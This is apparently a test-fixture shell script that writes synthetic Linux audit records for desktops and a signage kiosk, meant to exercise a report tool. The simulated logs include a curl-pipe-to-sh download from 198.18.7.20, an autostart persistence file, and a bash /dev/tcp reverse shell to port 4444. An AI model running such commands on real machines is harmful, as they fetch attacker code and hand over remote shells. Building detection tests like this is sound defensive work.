# SPDX-License-Identifier: Apache-2.0
# Audit records for report.sh. `node` and `user` (ids) are set by who calls; times are milliseconds after `start`.
start=1795593600 # 2026-11-25T08:00:00Z
serial=4100

hex() { printf %s "$1" | od -An -v -tx1 | tr -d ' \n' | tr a-f A-F; }

event() {
  serial=$((serial + 1))
  stamp="audit($((start + $1 / 1000)).$(printf %03d $(($1 % 1000))):$serial)"
}

record() { echo "node=$node type=$1 msg=$stamp: $2"; }

# call MS SYSCALL EXIT PID PPID EXE A0-A3
call() {
  event "$1"
  success=yes
  [ "$3" -ge 0 ] || success=no
  ids="auid=$user uid=$user gid=$user euid=$user suid=$user fsuid=$user egid=$user sgid=$user fsgid=$user"
  record SYSCALL "arch=c000003e syscall=$2 success=$success exit=$3 $7 items=2 ppid=$5 pid=$4 $ids tty=(none) ses=2 \
comm=\"x\" exe=\"$6\" key=(null)"
}

# exec_call MS PID PPID EXE ARGUMENT...
exec_call() {
  call "$1" 59 0 "$2" "$3" "$4" 'a0=1 a1=2 a2=3 a3=4'
  exe=$4
  shift 4
  arguments="argc=$#"
  n=0
  for argument; do
    arguments="$arguments a$n=$(hex "$argument")"
    n=$((n + 1))
  done
  record EXECVE "$arguments"
  end_of_exec
}
end_of_exec() {
  record CWD "cwd=\"$home\""
  record PATH "item=0 name=\"$exe\" inode=7 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL"
  record PROCTITLE 'proctitle="x"'
}

# exec_long MS PID PPID EXE: with an argument of a million bytes, in pieces as the kernel writes them.
exec_long() {
  call "$1" 59 0 "$2" "$3" "$4" 'a0=1 a1=2 a2=3 a3=4'
  exe=$4
  piece=$(head -c 5000 /dev/zero | tr '\0' A)
  record EXECVE 'argc=2 a0="app" a1_len=1000000'
  n=0
  while [ "$n" -lt 200 ]; do
    record EXECVE "a1[$n]=\"$piece\""
    n=$((n + 1))
  done
  end_of_exec
}

# connect_call MS PID PPID EXE EXIT ADDRESS_HEX PORT
connect_call() {
  call "$1" 42 "$5" "$2" "$3" "$4" 'a0=3 a1=2 a2=10 a3=0'
  record SOCKADDR "saddr=0200$(printf %04X "$7")${6}0000000000000000"
  record PROCTITLE 'proctitle="x"'
}

# create_call MS PID PPID EXE PATH
create_call() {
  call "$1" 257 4 "$2" "$3" "$4" 'a0=ffffff9c a1=2 a2=241 a3=1a4'
  record CWD "cwd=\"$home\""
  record PATH "item=0 name=\"${5%/*}/\" inode=8 dev=fd:00 mode=040755 ouid=$user ogid=$user rdev=00:00 nametype=PARENT"
  record PATH "item=1 name=\"$5\" inode=9 dev=fd:00 mode=0100644 ouid=$user ogid=$user rdev=00:00 nametype=CREATE"
  record PROCTITLE 'proctitle="x"'
}

# Two days of four desktops.
story() {
  node=desk7 user=1000 home=/home/alice
  exec_call 0 2210 1 /usr/bin/xfce4-session xfce4-session
  exec_call 1802 2291 2210 /usr/bin/bash bash -c 'curl -fsS http://198.18.7.20/u | sh'
  exec_call 1831 2294 2291 /usr/bin/curl curl -fsS http://198.18.7.20/u
  connect_call 1874 2294 2291 /usr/bin/curl -115 C6120714 80
  node=desk12 user=1001 home=/home/bob
  exec_call 3600000 1804 1 /usr/libexec/gnome-session-binary /usr/libexec/gnome-session-binary --session=gnome
  exec_call 3604310 1933 1804 /usr/bin/python3.11 python3 /home/bob/.local/share/sync.py --quiet
  connect_call 3606420 1933 1804 /usr/bin/python3.11 0 C6122A05 8443
  node=desk7 user=1000 home=/home/alice
  create_call 28500000 4402 2210 /usr/bin/cp /home/alice/.config/autostart/gvfs-helper.desktop
  exec_call 28800000 5210 1 /usr/bin/xfce4-session xfce4-session
  exec_call 28801200 5290 5210 /usr/bin/bash bash -c 'exec 3<>/dev/tcp/198.18.7.20/4444; sh <&3 >&3 2>&3'
  connect_call 28801290 5290 5210 /usr/bin/bash -111 C6120714 4444
  node=kiosk-3 user=1005 home=/home/kiosk
  for day in 0 1 2; do
    at=$((86400000 * day)) session=$((700 + day)) player=$((760 + day))
    exec_call $((at + 100)) $session 1 /usr/bin/lxqt-session lxqt-session
    exec_call $((at + 2100)) $player $session /opt/signage/player /opt/signage/player --url=http://198.18.0.9/board
    connect_call $((at + 2600)) $player $session /opt/signage/player 0 C6120009 80
  done
}
